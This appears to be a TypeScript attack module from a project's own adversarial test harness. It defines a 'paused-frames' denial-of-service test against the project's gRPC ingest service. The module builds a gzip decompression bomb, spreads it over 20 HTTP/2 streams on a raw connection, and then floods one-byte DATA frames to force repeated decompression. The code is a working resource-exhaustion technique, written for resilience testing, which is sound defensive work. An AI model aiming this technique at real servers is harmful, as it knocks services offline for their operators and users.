import { setImmediate as turn } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { H2_PREFACE, h2Frame, h2GrpcCall, streamMetrics } from '@activescale/devkit';
import { encodeMessage } from '@activescale/protocol/testing';
import { field } from '@activescale/protocol/testing/wire-bytes';
import type { Attack, IngestTarget } from '../lib/assault.ts';
import { connectRaw } from '../lib/raw-connection.ts';
import { MIB, nodeOf, packed, plain, ROGUE } from './calls.ts';

const STREAMS = 20;
const FRAME_BYTES = 16 * 1024;
const SMALL_FRAMES = 5_000;

/** DATA frames of one byte for streams that ingest has paused: it decompresses their large messages one after another. */
export const pausedFrames: Attack<IngestTarget> = {
  name: 'paused-frames',
  async run({ target, signal, got, ready }) {
    const identifier = plain(encodeMessage({ node: nodeOf('rogue'), timestamp: 1, families: [] }));
    const bomb = Buffer.concat([
      identifier,
      packed(gzipSync(field(3, Buffer.alloc(31 * MIB)), { level: 9 })),
    ]);
    const pieces = (id: number) =>
      Array.from({ length: Math.ceil(bomb.length / FRAME_BYTES) }, (_, i) =>
        h2Frame('data', 0, id, bomb.subarray(i * FRAME_BYTES, (i + 1) * FRAME_BYTES)),
      );
    ready();
    while (!signal.aborted) {
      using raw = await connectRaw({ port: target.grpcPort, from: ROGUE });
      const ids = Array.from({ length: STREAMS }, (_, i) => 2 * i + 1);
      const calls = ids.flatMap((id) => [
        h2GrpcCall(id, streamMetrics.path, { 'grpc-encoding': 'gzip' }),
        ...pieces(id),
      ]);
      await raw.write(Buffer.concat([H2_PREFACE, ...calls]));
      for (let i = 0; !raw.closed && !signal.aborted; i++) {
        const small = h2Frame('data', 0, ids[i % STREAMS] ?? 1, Buffer.alloc(1));
        await raw.write(Buffer.concat(Array<Buffer>(SMALL_FRAMES).fill(small)));
        await turn();
      }
      if (raw.closed) got('connection closed');
    }
  },
};
